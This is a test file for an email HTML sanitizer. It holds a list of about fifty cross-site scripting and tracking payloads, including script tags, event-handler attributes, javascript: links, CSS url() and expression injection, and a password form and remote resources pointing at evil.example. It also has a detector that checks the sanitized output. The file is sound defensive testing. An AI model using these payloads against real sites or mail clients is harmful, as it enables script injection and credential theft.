// HTML that was sent to harm. What is left is read again by another parser, and nothing in it may run, load or leave the page.
import { Parser } from 'htmlparser2';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { sanitizeHtml } from '../../../src/channels/email/sanitize.ts';

const ALLOWED_ATTRIBUTES = /^(?:style|dir|lang|title|align|valign|width|height|bgcolor|color|href|target|rel|name|src|alt|data-remote-src|border|face|size|cellpadding|cellspacing|summary|colspan|rowspan|nowrap|scope|start|type|datetime)$/;

/** What is wrong with the HTML; empty when it is safe. */
function faults(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      if (/^(?:script|style|iframe|frame|object|embed|applet|form|input|button|textarea|select|link|meta|base|svg|math|video|audio|source|template|noscript|title|html|head|body)$/.test(name)) found.push(`<${name}>`);
      for (const [key, value] of Object.entries(attributes)) {
        if (!ALLOWED_ATTRIBUTES.test(key)) found.push(`${name} ${key}`);
        if (key === 'href' && !/^(?:https?:|mailto:|tel:|#)/i.test(value) && /^[^/?#]*:/.test(value)) found.push(`${name} href=${value}`);
        if (key === 'src' && !/^(?:cid:|data:image\/(?:png|jpe?g|gif|webp);base64,)/i.test(value)) found.push(`${name} src=${value}`);
        if (key === 'data-remote-src' && !/^https?:\/\//i.test(value)) found.push(`${name} data-remote-src=${value}`);
        if (key === 'style' && /url\s*\(|expression|@import|behavior|position\s*:|\\|javascript/i.test(value)) found.push(`${name} style=${value}`);
      }
      if (name === 'a' && attributes.href && !(attributes.rel?.includes('noopener') && attributes.target === '_blank')) found.push('a without noopener');
    },
    oncomment: () => found.push('comment'),
    onprocessinginstruction: (name) => found.push(name),
  });
  parser.write(html);
  parser.end();
  return found;
}

const ATTACKS = [
  '<script>alert(1)</script>x', '<ScRiPt src=//evil.example/x.js></sCrIpT>', '<img src=x onerror=alert(1)>', '<img src="javascript:alert(1)">', '<svg onload=alert(1)><circle/></svg>', '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<a href="javascript:alert(1)">x</a>', '<a href="jav&#x09;ascript:alert(1)">x</a>', '<a href=" &#14; javascript:alert(1)">x</a>', '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="vbscript:x">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<object data="evil.swf"></object>', '<embed src=x>', '<form action=https://evil.example><input name=password><button>', '<meta http-equiv=refresh content="0;url=https://evil.example">', '<base href=https://evil.example/>', '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>body{background:url(https://evil.example)}</style>', '<div style="background:url(https://evil.example/p.gif)">x</div>', '<div style="width:expression(alert(1))">x</div>', '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>', '<div style="background-image:\\75rl(//evil.example)">x</div>', '<p style="color:red;behavior:url(x)">x</p>',
  '<table background="https://evil.example/p.gif"><tr><td background=x>', '<img srcset="https://evil.example/p.gif 1x" src=https://evil.example/q.gif>', '<img src="//evil.example/p.gif">', '<img src="data:image/svg+xml;base64,PHN2Zz4=">', '<video poster=https://evil.example/p.gif src=x>', '<!--[if mso]><script>alert(1)</script><![endif]-->', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><script>alert(1)</script></xmp>', '<textarea><img src=x onerror=alert(1)></textarea>', '<title><img src=x onerror=alert(1)></title>', '<plaintext><script>alert(1)', '<template><script>alert(1)</script></template>', '<a href="https://x.example" target="_self" rel="opener">x</a>', '<a name="x" id="y" class="z" onclick=alert(1)>x</a>', '<img data-remote-src="javascript:alert(1)" src="https://ok.example/x.png">',
  '<p\u0000onclick=alert(1)>x', '<scr\u0000ipt>alert(1)</script>', '<<script>script>alert(1)<</script>/script>', '<img """><script>alert(1)</script>">', '<div id=location name=cookie>x</div>', '<a href="https://x.example" ping="https://evil.example">x</a>', '<?xml version="1.0"?><?php echo 1 ?>x', '<body onload=alert(1)><p>x', '<marquee onstart=alert(1)>x</marquee>', '<input autofocus onfocus=alert(1)>', '<details open ontoggle=alert(1)>x</details>',
];

describe('HTML for display', () => {
  test.each(ATTACKS)('%j is harmless', (html) => {
    const clean = sanitizeHtml(html);
    expect(faults(clean)).toEqual([]);
    expect(sanitizeHtml(clean)).toBe(clean);
  });

  test('any mixture of them is harmless', () => {
    const bit = fc.oneof(fc.constantFrom(...ATTACKS, '<', '>', '"', "'", '=', '/', '<a href=', '<img src=', '<p style=', '&#', '<!--', '-->'), fc.string());
    fc.assert(fc.property(fc.array(bit, { maxLength: 8 }), (bits) => {
      expect(faults(sanitizeHtml(bits.join('')))).toEqual([]);
    }), { numRuns: 500 });
  });

  test('a remote image waits for its reader, an inline one stays', () => {
    expect(sanitizeHtml('<img src="https://x.example/p.gif" alt="a">')).toBe('<img alt="a" data-remote-src="https://x.example/p.gif" />');
    expect(sanitizeHtml('<img src="cid:logo@x">')).toBe('<img src="cid:logo@x" />');
    expect(sanitizeHtml('<img src="data:image/png;base64,iVBORw0=">')).toBe('<img src="data:image/png;base64,iVBORw0=" />');
  });

  test('a letter keeps its looks', () => {
    const html = '<div style="color:#333333;font-family:Arial, sans-serif"><p>Hello <b>Ada</b>,</p><ul><li>one</li></ul><table border="1" cellpadding="4"><tr><td colspan="2" style="padding:4px 8px">x</td></tr></table><blockquote type="cite">quoted</blockquote></div>';
    const clean = sanitizeHtml(html);
    for (const kept of ['color:#333333', 'font-family:Arial, sans-serif', '<b>Ada</b>', '<li>one</li>', 'colspan="2"', 'padding:4px 8px', '<blockquote type="cite">']) expect(clean).toContain(kept);
    expect(sanitizeHtml('<a href="https://x.example/a?b=1&amp;c=2">x</a>')).toBe('<a href="https://x.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">x</a>');
  });

  test('what is too long or too deep leaves nothing, in good time', () => {
    const began = performance.now();
    expect(sanitizeHtml('x'.repeat(3_000_000))).toBe('');
    expect(sanitizeHtml('<div>'.repeat(200_000))).toBe('');
    expect(sanitizeHtml(`${'<b>'.repeat(1000)}x`)).not.toContain('undefined');
    sanitizeHtml(`<p style="${'color:red;'.repeat(20_000)}">x</p>`);
    sanitizeHtml(`<a href="${'a:'.repeat(100_000)}">x</a>`);
    expect(performance.now() - began).toBeLessThan(5000);
    expect(sanitizeHtml('a\u0000b\ud800c')).not.toMatch(/\u0000|\ud800/);
  });
});
